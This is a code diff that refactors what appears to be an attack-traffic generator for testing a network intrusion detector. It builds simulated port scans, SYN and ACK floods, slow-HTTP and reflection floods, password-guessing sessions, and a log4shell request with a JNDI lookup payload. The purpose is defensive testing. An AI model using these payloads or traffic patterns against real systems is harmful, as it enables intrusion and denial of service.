@@ -14,6 +14,11 @@ def attack(verdict, within=10.0):
     return add
 
 
+def kind(verdict, name, make, *what, within=10.0, **how):
+    """An attack that is `make` with these arguments."""
+    ATTACKS.append((name, verdict, within, lambda w: make(w, *what, **how)))
+
+
 def honest(fn):
     HONEST.append((fn.__name__, fn))
     return fn
@@ -29,19 +34,9 @@ def scan(w, flags, reply, n=60, gap=0.02, src=0, six=False):
             w.tcp(i * gap + 0.001, b, 20 + i * 7, a, 40000, reply, ack=2)
 
 
-@attack("Probe")
-def syn_scan(w):
-    scan(w, "S", "RA")
-
-
-@attack("Probe")
-def syn_scan_filtered(w):
-    scan(w, "S", "")
-
-
-@attack("Probe")
-def syn_scan_6(w):
-    scan(w, "S", "RA", six=True)
+kind("Probe", "syn_scan", scan, "S", "RA")
+kind("Probe", "syn_scan_filtered", scan, "S", "")
+kind("Probe", "syn_scan_6", scan, "S", "RA", six=True)
 
 
 @attack("Probe")
@@ -56,34 +51,12 @@ def scan_of_which_answers_are_heard(w):
         w.tcp(i * 0.02, w.host(9), 20 + i * 7, w.host(0), 40000, "RA", ack=2)
 
 
-@attack("Probe")
-def ack_scan(w):
-    scan(w, "A", "R")
-
-
-@attack("Probe")
-def ack_scan_filtered(w):
-    scan(w, "A", "")
-
-
-@attack("Probe")
-def maimon_scan(w):
-    scan(w, "FA", "R")
-
-
-@attack("Probe")
-def null_scan(w):
-    scan(w, "", "RA")
-
-
-@attack("Probe")
-def fin_scan(w):
-    scan(w, "F", "RA")
-
-
-@attack("Probe")
-def xmas_scan(w):
-    scan(w, "FPU", "RA")
+kind("Probe", "ack_scan", scan, "A", "R")
+kind("Probe", "ack_scan_filtered", scan, "A", "")
+kind("Probe", "maimon_scan", scan, "FA", "R")
+kind("Probe", "null_scan", scan, "", "RA")
+kind("Probe", "fin_scan", scan, "F", "RA")
+kind("Probe", "xmas_scan", scan, "FPU", "RA")
 
 
 @attack("Probe")
@@ -92,14 +65,8 @@ def decoy_scan(w):
         scan(w, "S", "RA", n=30, src=decoy)
 
 
-@attack("Probe")
-def polite_scan(w):
-    scan(w, "S", "RA", n=40, gap=0.4)
-
-
-@attack("Probe", 200)
-def sneaky_scan(w):
-    scan(w, "S", "RA", n=20, gap=15)
+kind("Probe", "polite_scan", scan, "S", "RA", n=40, gap=0.4)
+kind("Probe", "sneaky_scan", scan, "S", "RA", n=20, gap=15, within=200)
 
 
 @attack("Probe")
@@ -206,29 +173,11 @@ def tcp_flood(w, flags, n=1000, data=b"", ports=False, one=False, same=False):
               w.random.randrange(1, 65535) if ports else 80, flags, data, seq=i * 77)
 
 
-@attack("DoS")
-def syn_flood_spoofed(w):
-    tcp_flood(w, "S")
-
-
-@attack("DoS")
-def syn_flood_one_source(w):
-    tcp_flood(w, "S", one=True)
-
-
-@attack("DoS")
-def syn_flood_random_ports(w):
-    tcp_flood(w, "S", ports=True)
-
-
-@attack("DoS")
-def syn_flood_one_connection(w):
-    tcp_flood(w, "S", one=True, same=True)
-
-
-@attack("DoS")
-def syn_flood_with_data(w):
-    tcp_flood(w, "S", data=b"x" * 500)
+kind("DoS", "syn_flood_spoofed", tcp_flood, "S")
+kind("DoS", "syn_flood_one_source", tcp_flood, "S", one=True)
+kind("DoS", "syn_flood_random_ports", tcp_flood, "S", ports=True)
+kind("DoS", "syn_flood_one_connection", tcp_flood, "S", one=True, same=True)
+kind("DoS", "syn_flood_with_data", tcp_flood, "S", data=b"x" * 500)
 
 
 @attack("DoS")
@@ -237,39 +186,13 @@ def syn_flood_6(w):
         w.tcp(i * 0.002, "2001:db8:%x::1" % i, 1024 + i, w.host6(9), 443, "S")
 
 
-@attack("DoS")
-def ack_flood_spoofed(w):
-    tcp_flood(w, "A")
-
-
-@attack("DoS")
-def ack_flood_random_ports(w):
-    tcp_flood(w, "A", ports=True)
-
-
-@attack("DoS")
-def ack_flood_one_connection(w):
-    tcp_flood(w, "A", one=True, same=True, n=2000)
-
-
-@attack("DoS")
-def rst_flood(w):
-    tcp_flood(w, "R")
-
-
-@attack("DoS")
-def fin_ack_flood(w):
-    tcp_flood(w, "FA")
-
-
-@attack("DoS")
-def push_flood_with_data(w):
-    tcp_flood(w, "PA", data=b"x" * 100)
-
-
-@attack("DoS")
-def synack_flood(w):
-    tcp_flood(w, "SA")
+kind("DoS", "ack_flood_spoofed", tcp_flood, "A")
+kind("DoS", "ack_flood_random_ports", tcp_flood, "A", ports=True)
+kind("DoS", "ack_flood_one_connection", tcp_flood, "A", one=True, same=True, n=2000)
+kind("DoS", "rst_flood", tcp_flood, "R")
+kind("DoS", "fin_ack_flood", tcp_flood, "FA")
+kind("DoS", "push_flood_with_data", tcp_flood, "PA", data=b"x" * 100)
+kind("DoS", "synack_flood", tcp_flood, "SA")
 
 
 @attack("DoS")
@@ -279,19 +202,9 @@ def synack_flood_answered(w):
         w.tcp(i * 0.005 + 0.0001, w.host(9), 1024 + i, w.outside(i % 60), 443, "R", seq=1)
 
 
-@attack(None)
-def fin_flood(w):
-    tcp_flood(w, "F")
-
-
-@attack(None)
-def xmas_flood(w):
-    tcp_flood(w, "FPU", one=True)
-
-
-@attack(None)
-def xmas_flood_one_connection(w):
-    tcp_flood(w, "FPU", one=True, same=True)
+kind(None, "fin_flood", tcp_flood, "F")
+kind(None, "xmas_flood", tcp_flood, "FPU", one=True)
+kind(None, "xmas_flood_one_connection", tcp_flood, "FPU", one=True, same=True)
 
 
 @attack("DoS")
@@ -455,20 +368,14 @@ def stay(w, lines, port=80, n=60, window=8192):
               seq=1001 + sum(len(d) for mine, d in lines if mine), ack=5001, window=window)
 
 
-@attack("DoS", 30)
-def slow_headers(w):
-    stay(w, [(True, b"GET / HTTP/1.1\r\nHost: x\r\n")])
-
-
-@attack("DoS", 30)
-def slow_bodies(w):
-    stay(w, [(True, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\na")], port=8000)
-
-
-@attack("DoS", 30)
-def slow_reading(w):
-    stay(w, [(True, b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n"),
-             (False, b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"x" * 500)], window=0)
+kind("DoS", "slow_headers", stay, [(True, b"GET / HTTP/1.1\r\nHost: x\r\n")], within=30)
+kind("DoS", "slow_bodies", stay,
+     [(True, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\na")],
+     port=8000, within=30)
+kind("DoS", "slow_reading", stay,
+     [(True, b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n"),
+      (False, b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"x" * 500)],
+     window=0, within=30)
 
 
 @attack("DoS")
@@ -506,18 +413,14 @@ AMPLIFIED = {
 }
 
 
-def reflected(name, hosts):
-    def flood(w):
-        port, answer = AMPLIFIED[name]
-        for i in range(400):
-            w.udp(i * 0.005, w.outside(i % hosts), port, w.host(9), 34567, answer)
-    flood.__name__ = "%s_reflection_by_%d" % (name, hosts)
-    return flood
+def reflected(w, hosts, port, answer):
+    for i in range(400):
+        w.udp(i * 0.005, w.outside(i % hosts), port, w.host(9), 34567, answer)
 
 
-for service in AMPLIFIED:
-    attack("DoS")(reflected(service, 50))
-    attack("DoS")(reflected(service, 3))
+for service, said in AMPLIFIED.items():
+    for many in (50, 3):
+        kind("DoS", "%s_reflection_by_%d" % (service, many), reflected, many, *said)
 
 
 @attack("DoS")
@@ -542,53 +445,43 @@ def questions_for_all_records(w):
 
 # ---- passwords -----------------------------------------------------------------------
 
-def guess(w, port, lines, n=30, gap=0.3):
-    for i in range(n):
-        w.talk(i * gap, w.host(0), 20000 + i, w.host(9), port, lines)
+REFUSED_BY_FTP = [(False, b"220 FTP ready\r\n"), (True, b"USER a\r\n"),
+                  (False, b"331 Password\r\n"), (True, b"PASS b\r\n"),
+                  (False, b"530 Login incorrect\r\n")]
+SOME_PAGE = (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")
+
+# Port, and what is said each time.
+GUESSED = {
+    "ftp_guessing": (21, REFUSED_BY_FTP),
+    "ssh_guessing": (
+        22, [(True, b"SSH-2.0-x\r\n"), (False, b"SSH-2.0-OpenSSH_9\r\n"),
+             (True, b"\0\0\4\x0c\x04\x14" + b"k" * 1200),
+             (False, b"\0\0\4\x0c\x04\x14" + b"k" * 900)]),
+    "telnet_guessing": (
+        23, [(False, b"\xff\xfd\x18login: "), (True, b"root\r\n"), (False, b"Password: "),
+             (True, b"admin\r\n"), (False, b"\r\nLogin incorrect\r\n")]),
+    "basic_guessing": (
+        80, [(True, b"GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\n\r\n"),
+             (False, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")]),
+    "form_guessing": (
+        80, [(True, b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\n"
+              b"username=admin&password=letmein"), SOME_PAGE]),
+    "form_guessing_in_the_address": (
+        80, [(True, b"GET /brute/?username=admin&password=x&Login=Login HTTP/1.1\r\n"
+              b"Host: x\r\n\r\n"), SOME_PAGE]),
+    "ldap_guessing": (
+        389, [(True, b"\x30\x16\x02\x01\x01\x60\x11\x02\x01\x03\x04\x04cn=a\x80\x06secret"),
+              (False, b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x31\x04\0\x04\0")]),
+}
 
 
-@attack("R2L")
-def ftp_guessing(w):
-    guess(w, 21, [(False, b"220 FTP ready\r\n"), (True, b"USER a\r\n"), (False, b"331 Password\r\n"),
-                  (True, b"PASS b\r\n"), (False, b"530 Login incorrect\r\n")])
+def guess(w, port, lines):
+    for i in range(30):
+        w.talk(i * 0.3, w.host(0), 20000 + i, w.host(9), port, lines)
 
 
-@attack("R2L")
-def ssh_guessing(w):
-    guess(w, 22, [(True, b"SSH-2.0-x\r\n"), (False, b"SSH-2.0-OpenSSH_9\r\n"),
-                  (True, b"\0\0\4\x0c\x04\x14" + b"k" * 1200), (False, b"\0\0\4\x0c\x04\x14" + b"k" * 900)])
-
-
-@attack("R2L")
-def telnet_guessing(w):
-    guess(w, 23, [(False, b"\xff\xfd\x18login: "), (True, b"root\r\n"), (False, b"Password: "),
-                  (True, b"admin\r\n"), (False, b"\r\nLogin incorrect\r\n")])
-
-
-@attack("R2L")
-def basic_guessing(w):
-    guess(w, 80, [(True, b"GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\n\r\n"),
-                  (False, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")])
-
-
-@attack("R2L")
-def form_guessing(w):
-    guess(w, 80, [(True, b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\n"
-                   b"username=admin&password=letmein"),
-                  (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")])
-
-
-@attack("R2L")
-def form_guessing_in_the_address(w):
-    guess(w, 80, [(True, b"GET /brute/?username=admin&password=x&Login=Login HTTP/1.1\r\nHost: x\r\n\r\n"),
-                  (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")])
-
-
-@attack("R2L")
-def ldap_guessing(w):
-    bind = b"\x30\x16\x02\x01\x01\x60\x11\x02\x01\x03\x04\x04cn=a\x80\x06secret"
-    bad = b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x31\x04\0\x04\0"
-    guess(w, 389, [(True, bind), (False, bad)])
+for name, said in GUESSED.items():
+    kind("R2L", name, guess, *said)
 
 
 @attack("R2L")
@@ -601,9 +494,7 @@ def community_guessing(w):
 @attack("R2L")
 def one_password_at_many_hosts(w):
     for i in range(40):
-        w.talk(i * 0.2, w.host(0), 20000 + i, w.host(20 + i), 21,
-               [(False, b"220 FTP ready\r\n"), (True, b"USER a\r\n"), (False, b"331 Password\r\n"),
-                (True, b"PASS b\r\n"), (False, b"530 Login incorrect\r\n")])
+        w.talk(i * 0.2, w.host(0), 20000 + i, w.host(20 + i), 21, REFUSED_BY_FTP)
 
 
 @attack("R2L")
@@ -616,12 +507,13 @@ def name_poisoning(w):
 
 # ---- the web -------------------------------------------------------------------------
 
+def ask(w, text):
+    w.talk(0, w.host(0), 20000, w.host(9), 80,
+           [(True, text), (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")])
+
+
 def request(name, text):
-    def send(w):
-        w.talk(0, w.host(0), 20000, w.host(9), 80,
-               [(True, text), (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")])
-    send.__name__ = name
-    attack("R2L")(send)
+    kind("R2L", name, ask, text)
 
 
 request("log4shell", b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n")
